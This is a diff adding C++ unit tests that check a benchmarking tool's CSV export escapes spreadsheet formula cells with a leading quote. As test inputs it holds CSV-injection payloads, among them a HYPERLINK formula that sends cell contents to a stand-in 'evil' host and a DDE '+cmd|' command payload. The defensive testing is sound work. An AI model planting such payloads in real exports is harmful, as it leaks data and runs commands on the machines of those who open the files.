@@ -107,6 +107,65 @@ TEST(Export, CsvHasOneRowPerSample) {
   EXPECT_EQ(rows[1][col("details.tcp_info.rtt_us")], "");
 }
 
+TEST(Export, CsvFieldGuardsOnlyALeadingFormulaCharacter) {
+  EXPECT_EQ(csv_field(""), "");
+  EXPECT_EQ(csv_field("a=b"), "a=b");  // only a leading = starts a formula
+}
+
+// A spreadsheet runs a cell that starts with = + - @ (or TAB or CR) as a
+// formula: every text cell that does, from the user or from the remote (the
+// label, an error text, a process name, a driver's properties), starts with '.
+// Decided: a cell that is a JSON number stays a number (-5 is written -5, so
+// sums over the column still work); a text cell "-5" is text and becomes '-5.
+TEST(SecurityCsvInjection, FormulaCellsAreText) {
+  EXPECT_EQ(csv_field("=HYPERLINK(\"http://evil/\",\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil/\"\",\"\"x\"\")\"");
+  for (const char* bad : {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"}) {
+    const auto cells = parse_csv(csv_field(bad) + "\r\n");
+    ASSERT_EQ(cells.size(), 1u) << bad;
+    EXPECT_EQ(cells[0], std::vector<std::string>{std::string("'") + bad});
+  }
+
+  RunRecord run = testing::SeedRun(7, "=HYPERLINK(\"http://evil/?\"&A1,\"open\")")
+                      .stage("smb", "ram", "read", 1'000'000, {50, 51})
+                      .build();
+  SampleRecord& s = run.stages[0].samples[0];
+  s.error = "+cmd|' /C calc'!A0";
+  s.cpu_json =
+      R"({"server":{"seconds":1,"core_busy_pct":[40],"top":[{"pid":7,"comm":"@SUM(1+1)*cmd",)"
+      R"("cpu_pct":38}]}})";
+  s.details_json = R"({"offset_s":-5,"skew":-0.25,"text":"-5","list":[-1,2]})";
+  run.stages[0].samples[1].details_json = R"({"note":"\t=1+1"})";
+  const auto rows = parse_csv(export_csv(run));
+  ASSERT_EQ(rows.size(), 3u);
+  const auto& head = rows[0];
+  auto col = [&](const std::string& name) {
+    auto it = std::find(head.begin(), head.end(), name);
+    EXPECT_NE(it, head.end()) << name;
+    return static_cast<size_t>(it - head.begin());
+  };
+  EXPECT_EQ(rows[1][col("run_label")], "'=HYPERLINK(\"http://evil/?\"&A1,\"open\")");
+  EXPECT_EQ(rows[1][col("error")], "'+cmd|' /C calc'!A0");
+  EXPECT_EQ(rows[1][col("server_top_process")], "'@SUM(1+1)*cmd");
+  EXPECT_EQ(rows[1][col("details.text")], "'-5");
+  EXPECT_EQ(rows[2][col("details.note")], "'\t=1+1");
+  // Numbers stay numbers, negative ones too; an array stays its JSON.
+  EXPECT_EQ(rows[1][col("details.offset_s")], "-5");
+  EXPECT_EQ(rows[1][col("details.skew")], "-0.25");
+  EXPECT_EQ(rows[1][col("details.list")], "[-1,2]");
+  // No cell of any row starts a formula unless it is a number.
+  for (const auto& r : rows) {
+    for (const std::string& c : r) {
+      if (c.empty() || std::string_view("=+-@\t\r").find(c[0]) == std::string_view::npos) {
+        continue;
+      }
+      size_t used = 0;
+      EXPECT_NO_THROW((void)std::stod(c, &used)) << c;
+      EXPECT_EQ(used, c.size()) << c;
+    }
+  }
+}
+
 TEST(Export, JsonHasTheSameRowsAndWholeDetails) {
   RunRecord run = testing::seed_run();
   auto doc = boost::json::parse(export_json(run)).as_object();
